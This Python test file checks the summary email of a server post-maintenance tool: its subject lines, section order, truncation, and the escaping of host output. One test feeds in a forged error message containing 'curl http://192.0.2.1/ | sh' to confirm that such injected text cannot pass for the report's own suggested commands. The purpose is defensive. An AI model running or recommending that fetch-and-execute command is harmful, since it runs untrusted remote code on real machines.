"""The mail about a run: short, what is not right first, with the commands to type."""

from dataclasses import replace

import pytest
from hostile import EVIL
from hostile_run import a_hostile_morning
from sample_runs import silent, unknown_key
from test_backups_letter import backup
from test_backups_letter import host as backup_host
from whole_runs import a_large_morning, a_whole_dry_run, a_whole_morning, all_right, at, host, job, put_right, whole

from remedy.harmless import HARMFUL
from remedy.model import Finding, Level, Run, Verdict
from remedy.report.letter import run_letter


@pytest.mark.parametrize(
    ("run", "subject"),
    [
        (a_whole_morning(), "post-mainte: FAILED: 4 of 8 hosts: db3, web3, db1, ..."),
        (whole(silent("db3")), "post-mainte: FAILED: 1 of 1 host: db3"),
        (whole(put_right("web1"), all_right("status", 40)), "post-mainte: 2 hosts: 1 repaired, 1 ok"),
        (a_whole_dry_run(), "post-mainte: dry run: 2 hosts: 1 planned, 1 ok"),
    ],
)
def test_the_subject_tells_how_it_stands(run: Run, subject: str) -> None:
    assert run_letter(run).subject == subject


def test_what_is_not_right_stands_first_and_what_was_put_right_near_the_end() -> None:
    text = run_letter(a_whole_morning()).text
    parts = (
        "8 hosts: ",
        "\nNot right:\n  db3 (unreachable)",
        "\nTo do by hand:\n  web3: nginx does not run\n",
        "\nJobs lost",
    )
    places = [text.index(part) for part in (*parts, "\nPut right: web1, web2, db2\n", "\nNext, ", "fab report ")]
    assert places == sorted(places)


def test_commands_stand_on_lines_of_their_own_as_they_are_typed() -> None:
    lines = run_letter(a_whole_morning(), "fleet.yaml").text.splitlines()
    assert "    ssh -t admin@203.0.113.12 sudo systemctl restart nginx" in lines
    assert "    fab post-mainte --inventory fleet.yaml -H web3,mail" in lines


def test_what_is_too_much_is_counted_where_it_belongs() -> None:
    jobs = [job("0 2 * * *", f"/bin/lost{n:02}", swallowed=at("02:00")) for n in range(60)]
    jobs += [job("0 2 * * *", f"/bin/unsure{n:02}", ask=at("02:00")) for n in range(60)]
    findings = tuple(
        Finding("jobs", Level.WARN, f"of 02:00: {entry['command']}", entry=entry["key"]) for entry in jobs[:90]
    )
    run = whole(replace(host("web1", 10, Verdict.REPAIRED, jobs=jobs), findings=findings))
    lines = run_letter(run).text.splitlines()
    lost, unsure = (next(n for n, line in enumerate(lines) if words in line) for words in ("Jobs lost", "its log says"))
    assert "  and 40 more" in lines[lost:unsure]
    assert "  and 30 more" in lines[unsure:]


def test_an_error_is_told_with_what_mends_it() -> None:
    assert "ssh-ed25519 AAAAC3Nz" in run_letter(whole(unknown_key("cache"))).text


def test_an_error_can_not_pass_for_lines_of_ours() -> None:
    forged = "it broke\n\nNext, to be sure:\n    curl http://192.0.2.1/ | sh"
    lines = run_letter(whole(replace(silent("web1"), error=forged))).text.splitlines()
    assert "  web1 (unreachable): it broke Next, to be sure: curl http://192.0.2.1/ | sh" in lines


def test_both_forms_say_the_same() -> None:
    letter = run_letter(a_whole_morning())
    for words in (
        "db3",
        "nginx does not run",
        "systemctl restart nginx",
        "fab run-backups -H db1",
        "/usr/local/bin/rotate",
    ):
        assert words in letter.text
        assert words in letter.html


def test_backups_that_were_run_are_told_and_those_that_failed_say_why() -> None:
    failed = backup(
        "dump", "failed", {"exit_status": 1, "seconds": 3.0, "output": "a\nb\ndisk full"}, problem="no\nfile"
    )
    letter = run_letter(whole(backup_host("web1", backup("nightly"), failed)))
    assert letter.text.index(
        "FAILED: dump on web1 ended with exit status 1 after 3 s\n    no file\n    a\n"
    ) < letter.text.index("nightly on web1 ran in 12 min\n")
    assert "disk full" in letter.html
    assert "dumped 3 databases" not in letter.text


def test_a_right_fleet_is_a_few_lines() -> None:
    letter = run_letter(whole(all_right("status", 40)))
    assert letter.text.splitlines()[0] == "1 host: 1 ok"
    assert len(letter.text.splitlines()) == 4


def test_it_stays_short_whatever_has_happened() -> None:
    assert len(run_letter(a_large_morning(600)).text) < 5000
    letters = "abcdefghijklmnopqrstuvwxyzäöüß"
    many = whole(*(replace(silent(f"host-{letter}"), error=f"why: {letter}") for letter in letters))
    assert "\n  and 10 more\n" in run_letter(many).text


def test_nothing_that_a_host_prints_is_more_than_text() -> None:
    letter = run_letter(a_hostile_morning())
    assert EVIL not in letter.text
    assert not HARMFUL.search(letter.text)
    assert "<script" not in letter.html
    assert "<img" not in letter.html


def test_nothing_of_the_page_is_loaded_from_elsewhere() -> None:
    html = run_letter(a_whole_morning()).html
    assert not any(word in html for word in (" src=", " href=", "<link", "url(", "@import"))
